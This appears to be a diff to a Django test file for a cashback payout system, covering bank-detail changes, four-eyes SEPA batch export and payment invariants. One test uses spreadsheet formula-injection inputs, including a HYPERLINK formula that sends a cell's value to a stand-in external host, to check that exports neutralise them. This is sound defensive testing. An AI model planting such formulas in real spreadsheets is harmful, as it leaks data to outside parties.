@@ -1,7 +1,7 @@
 """Payouts: bank details, batches with four eyes, the SEPA file, paid, cancelled; the invariants."""
 
 import io
-from datetime import date
+from datetime import date, timedelta
 from pathlib import Path
 
 import pytest
@@ -65,8 +65,8 @@ def accepted(register, with_bank):
 def paid_batch(alice, bob, selection=ALL):
     batch = payouts.create_batch(selection, actor=alice)
     payouts.approve_batch(batch, actor=bob)
-    payouts.export_batch(batch, actor=alice, execution_date=date(2026, 6, 17))
-    return payouts.mark_paid(batch, actor=bob, executed_on=date(2026, 6, 17))
+    payouts.export_batch(batch, actor=alice, execution_date=date(2026, 6, 15))
+    return payouts.mark_paid(batch, actor=bob, executed_on=date(2026, 6, 15))
 
 
 # Bank details ------------------------------------------------------------------------------
@@ -104,7 +104,7 @@ def test_a_company_admin_enters_bank_details_and_every_change_is_recorded_and_em
     first, second = BankAccountChange.objects.order_by("id")
     assert (first.old, first.new) == ("", "NL91 **** **** **43 00, Zonnewerk B.V.")
     assert (second.old, second.new, second.changed_by) == (first.new, "NL20 **** **** **45 67, Zonnewerk B.V.", installer)
-    assert [m.to for m in mail.outbox] == [[installer.email], [installer.email]]
+    assert [m.to for m in mail.outbox] == [[company.contact_email, installer.email]] * 2
     assert mail.outbox[1].subject == "The bank details of Zonnewerk B.V. were changed"
     assert "NL20 **** **** **45 67" in mail.outbox[1].body and "NL20INGB0001234567" not in mail.outbox[1].body
     page = installer_client.get("/company/bank/").content.decode()
@@ -171,7 +171,7 @@ def test_export_writes_a_sepa_file_that_validates_with_one_payment_per_company(a
              postcode="4000")
     batch = payouts.create_batch(ALL, actor=alice)
     payouts.approve_batch(batch, actor=bob)
-    batch = payouts.export_batch(batch, actor=alice, execution_date=date(2026, 6, 17))
+    batch = payouts.export_batch(batch, actor=alice, execution_date=date(2026, 6, 15))
     xml = batch.sepa_file.read()
     document = etree.fromstring(xml)
     etree.XMLSchema(etree.parse(str(XSD))).assertValid(document)  # the official pain.001.001.03 XSD
@@ -195,7 +195,7 @@ def test_export_writes_a_sepa_file_that_validates_with_one_payment_per_company(a
 def test_an_exported_batch_is_locked(accepted, alice, bob):
     batch = payouts.create_batch(ALL, actor=alice)
     payouts.approve_batch(batch, actor=bob)
-    payouts.export_batch(batch, actor=alice, execution_date=date(2026, 6, 17))
+    payouts.export_batch(batch, actor=alice, execution_date=date(2026, 6, 15))
     for action in (lambda: payouts.cancel_batch(batch, actor=alice), lambda: payouts.approve_batch(batch, actor=bob),
                    lambda: payouts.export_batch(batch, actor=alice, execution_date=date(2026, 6, 18))):
         with pytest.raises(payouts.PayoutError):
@@ -216,7 +216,7 @@ def test_marking_paid_pays_every_registration_once_with_history_and_one_email_pe
     for registration in accepted:
         registration.refresh_from_db()
         assert (registration.status, registration.reason) == (Status.PAID, Reason.PAID)
-        assert registration.paid_at.date() == date(2026, 6, 17)
+        assert registration.paid_at.date() == date(2026, 6, 15)
         last = registration.history.last()
         assert (last.from_status, last.to_status, last.actor, last.note) == (
             Status.ACCEPTED, Status.PAID, bob, batch.reference
@@ -225,7 +225,7 @@ def test_marking_paid_pays_every_registration_once_with_history_and_one_email_pe
     assert email.subject == "Cashback paid: € 600.00 for 3 devices"
     assert installer.email in email.to
     assert "1000000001: € 200.00" in email.body and "NL91 **** **** **43 00" in email.body
-    assert "17 June 2026" in email.body
+    assert "15 June 2026" in email.body
 
 
 def test_the_installer_sees_which_serials_were_paid(accepted, alice, bob, installer_client, other_company, client):
@@ -254,18 +254,141 @@ def test_cancelling_returns_the_registrations_to_the_pool(accepted, alice, bob):
     assert first.history.last().note == "wrong month"
 
 
-def test_a_registration_is_in_at_most_one_live_batch_and_a_serial_is_paid_at_most_once(accepted, alice, bob):
+def test_a_registration_is_in_at_most_one_live_batch(accepted, alice, bob):
     batch = paid_batch(alice, bob)
     item = batch.items.first()
     other = PayoutBatch.objects.create(reference="CB-X", created_by=alice)
-    with pytest.raises(IntegrityError), transaction.atomic():
+    with pytest.raises(IntegrityError, match="one_live_payout_per_registration|payoutitem.registration_id"), transaction.atomic():
         PayoutItem.objects.create(batch=other, registration=item.registration, company=item.company,
-                                  serial=item.serial, amount_cents=1)
-    with pytest.raises(IntegrityError), transaction.atomic():  # another registration, the same serial
-        PayoutItem.objects.create(batch=other, registration=accepted[1], company=item.company, serial=item.serial,
-                                  amount_cents=1)
-    with pytest.raises(IntegrityError), transaction.atomic():  # two paid registrations of one serial
-        Registration.objects.filter(pk=accepted[1].pk).update(serial=item.serial)
+                                  serial=item.serial + "0", amount_cents=1)
+
+
+def test_a_serial_is_paid_at_most_once_ever(accepted, alice, bob, register, other_company):
+    batch = paid_batch(alice, bob)
+    serial = batch.items.first().serial
+    # Another company's registration of the same serial (it waits for documents: claimed twice).
+    theirs = register(serial, company=other_company, user=other_company.memberships.get().user)
+    other = PayoutBatch.objects.create(reference="CB-Y", created_by=alice)
+    with pytest.raises(IntegrityError, match="one_live_payout_per_serial|payoutitem.serial"), transaction.atomic():
+        PayoutItem.objects.create(batch=other, registration=theirs, company=other_company, serial=serial,
+                                  amount_cents=20000)
+    with pytest.raises(IntegrityError, match="one_accepted_registration_per_serial|registration.serial"), transaction.atomic():
+        Registration.objects.filter(pk=theirs.pk).update(status=Status.PAID)
+
+
+def test_the_account_approved_is_the_account_paid(accepted, alice, bob, company, installer,
+                                                  django_capture_on_commit_callbacks):
+    batch = payouts.create_batch(ALL, actor=alice)
+    page = client_for(bob).get(f"/finance/{batch.pk}/").content.decode()
+    assert "NL91ABNA0417164300" in page
+    payouts.approve_batch(batch, actor=bob)
+    bank.set_bank_account(company, iban="NL20INGB0001234567", bic="", holder="Mallory", user=installer)
+    with pytest.raises(payouts.PayoutError, match="changed after the batch was made"):
+        payouts.export_batch(batch, actor=alice, execution_date=date(2026, 6, 15))
+    assert "changed since" in client_for(bob).get(f"/finance/{batch.pk}/").content.decode()
+    bank.set_bank_account(company, iban="NL91ABNA0417164300", bic="ABNANL2A", holder="Zonnewerk B.V.", user=installer)
+    batch = payouts.export_batch(batch, actor=alice, execution_date=date(2026, 6, 15))
+    document = etree.fromstring(batch.sepa_file.read())
+    assert [e.text for e in document.findall(".//p:CdtrAcct/p:Id/p:IBAN", NS)] == ["NL91ABNA0417164300"]
+
+
+def test_names_from_installers_never_become_formulas_or_break_the_bank_file(register, company, installer, alice, bob):
+    bank.set_bank_account(company, iban="NL91ABNA0417164300", bic="",
+                          holder='=HYPERLINK("http://x.example/?"&D6,"ok") Zon & Dak_B.V. #1', user=installer)
+    registration = register(reference="=WEBSERVICE(1)")
+    batch = payouts.create_batch(ALL, actor=alice)
+    payouts.approve_batch(batch, actor=bob)
+    batch = payouts.export_batch(batch, actor=alice, execution_date=date(2026, 6, 15))
+    summary = load_workbook(io.BytesIO(batch.summary_file.read()))
+    holder_cell = summary["Payments"]["C6"]
+    assert holder_cell.data_type == "s" and holder_cell.value.startswith("=HYPERLINK")
+    name = etree.fromstring(batch.sepa_file.read()).findtext(".//p:Cdtr/p:Nm", namespaces=NS)
+    assert set(name) <= set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789/-?:().,'+ ")
+    assert "Zon + Dak B.V. 1" in name
+    spec = installer_spec(company, batch)
+    assert spec["D5"].data_type == "s" and spec["D5"].value == "=WEBSERVICE(1)"
+    assert registration.reference == "=WEBSERVICE(1)"
+
+
+def installer_spec(company, batch):
+    from registrations.payout_files import company_specification
+
+    return load_workbook(io.BytesIO(company_specification(company, batch))).active
+
+
+def test_end_to_end_ids_are_unique_whatever_the_customer_numbers(accepted, alice, bob, campaign, register):
+    long_a = make_company(campaign, name="A", customer_number="12345678901234567890", email="a@example.com")
+    long_b = make_company(campaign, name="B", customer_number="12345678901234567899", email="b@example.com")
+    for n, other in enumerate((long_a, long_b), start=5):
+        bank.set_bank_account(other, iban="BE68539007547034", bic="", holder=other.name, user=None)
+        register(f"100000000{n}", company=other, user=other.memberships.get().user)
+    batch = payouts.create_batch(ALL, actor=alice)
+    payouts.approve_batch(batch, actor=bob)
+    batch = payouts.export_batch(batch, actor=alice, execution_date=date(2026, 6, 15))
+    ids = [e.text for e in etree.fromstring(batch.sepa_file.read()).findall(".//p:EndToEndId", NS)]
+    assert len(ids) == len(set(ids)) == 3
+
+
+def test_zero_amounts_are_not_paid(register, with_bank, campaign, alice):
+    CampaignProduct.objects.filter(campaign=campaign).update(amount_cents=0)
+    register()
+    assert payouts.preview(ALL)["count"] == 0
+
+
+def test_dates_must_make_sense(accepted, alice, bob, time_machine):
+    batch = payouts.create_batch(ALL, actor=alice)
+    payouts.approve_batch(batch, actor=bob)
+    with pytest.raises(payouts.PayoutError, match="cannot be in the past"):
+        payouts.export_batch(batch, actor=alice, execution_date=date(2026, 6, 1))
+    payouts.export_batch(batch, actor=alice, execution_date=date(2026, 6, 16))
+    with pytest.raises(payouts.PayoutError, match="between the export"):
+        payouts.mark_paid(batch, actor=bob, executed_on=date(2026, 6, 16))  # tomorrow
+    time_machine.shift(timedelta(days=1))
+    assert payouts.mark_paid(batch, actor=bob, executed_on=date(2026, 6, 16)).state == PayoutBatch.State.PAID
+
+
+def test_an_export_the_bank_rejected_is_voided_by_a_second_person(accepted, alice, bob):
+    batch = payouts.create_batch(ALL, actor=alice)
+    payouts.approve_batch(batch, actor=bob)
+    payouts.export_batch(batch, actor=alice, execution_date=date(2026, 6, 15))
+    with pytest.raises(payouts.PayoutError, match="Write why"):
+        payouts.void_export(batch, actor=bob, note=" ")
+    with pytest.raises(payouts.FourEyes):
+        payouts.void_export(batch, actor=alice, note="rejected")
+    payouts.void_export(batch, actor=bob, note="Bank: file rejected, wrong debtor BIC")
+    assert PayoutBatch.objects.get().state == PayoutBatch.State.CANCELLED
+    assert payouts.create_batch(ALL, actor=bob).item_count == 3  # back in the pool
+
+
+def test_one_failed_queueing_costs_one_email_not_all(accepted, alice, bob, other_company, register, monkeypatch,
+                                                     django_capture_on_commit_callbacks):
+    from registrations import tasks
+
+    bank.set_bank_account(other_company, iban="BE68539007547034", bic="", holder="Soleil", user=None)
+    register("2000000001", "HM-20", company=other_company, user=other_company.memberships.get().user, country="BE",
+             postcode="4000")
+    original, calls = tasks.notify_payout.delay, []
+
+    def flaky(*args):
+        calls.append(args)
+        if len(calls) == 1:
+            raise ConnectionError("broker down")
+        return original(*args)
+
+    monkeypatch.setattr(tasks.notify_payout, "delay", flaky)
+    mail.outbox.clear()
+    with django_capture_on_commit_callbacks(execute=True):
+        paid_batch(alice, bob)
+    assert len(calls) == 2 and len(mail.outbox) == 1
+
+
+def test_the_admin_shows_batches_to_finance_only_and_never_their_files(accepted, alice, bob, staff_client):
+    batch = paid_batch(alice, bob)
+    page = staff_client.get(f"/admin/registrations/payoutbatch/{batch.pk}/change/").content.decode()
+    assert batch.reference in page and ".xml" not in page and ".xlsx" not in page
+    viewer = User.objects.create_user(email="viewer@example.com", password=PASSWORD, is_staff=True)
+    viewer.user_permissions.add(Permission.objects.get(codename="view_payoutbatch"))
+    assert client_for(viewer).get(f"/admin/registrations/payoutbatch/{batch.pk}/change/").status_code == 403
 
 
 def test_amounts_are_those_decided_not_the_current_table(accepted, campaign, alice, bob):
@@ -295,7 +418,10 @@ def test_a_month_paid_through_the_finance_pages(accepted, alice, bob):
     a, b = client_for(alice), client_for(bob)
     page = a.get("/finance/new/", {"decided_until": "2026-06-30"}).content.decode()
     assert "3 registrations, € 600.00" in page and "Zonnewerk B.V." in page
-    response = a.post("/finance/new/", {"decided_until": "2026-06-30", "campaign": "", "country": ""})
+    form = {"decided_until": "2026-06-30", "campaign": "", "country": "", "expected_count": 2, "expected_total": 40000}
+    page = a.post("/finance/new/", form, follow=True).content.decode()
+    assert "The selection changed since the preview" in page and not PayoutBatch.objects.exists()
+    response = a.post("/finance/new/", {**form, "expected_count": 3, "expected_total": 60000})
     batch = PayoutBatch.objects.get()
     assert response["Location"] == f"/finance/{batch.pk}/"
     assert "you created this batch" in a.get(f"/finance/{batch.pk}/").content.decode()
@@ -303,10 +429,10 @@ def test_a_month_paid_through_the_finance_pages(accepted, alice, bob):
     batch.refresh_from_db()
     assert batch.state == PayoutBatch.State.OPEN
     b.post(f"/finance/{batch.pk}/approve/")
-    a.post(f"/finance/{batch.pk}/export/", {"execution_date": "2026-06-17"})
+    a.post(f"/finance/{batch.pk}/export/", {"execution_date": "2026-06-15"})
     sepa = a.get(f"/finance/{batch.pk}/sepa/")
     assert b"".join(sepa.streaming_content).startswith(b"<?xml")
-    b.post(f"/finance/{batch.pk}/paid/", {"executed_on": "2026-06-17"})
+    b.post(f"/finance/{batch.pk}/paid/", {"executed_on": "2026-06-15"})
     batch.refresh_from_db()
     assert batch.state == PayoutBatch.State.PAID
     assert set(Registration.objects.values_list("status", flat=True)) == {Status.PAID}
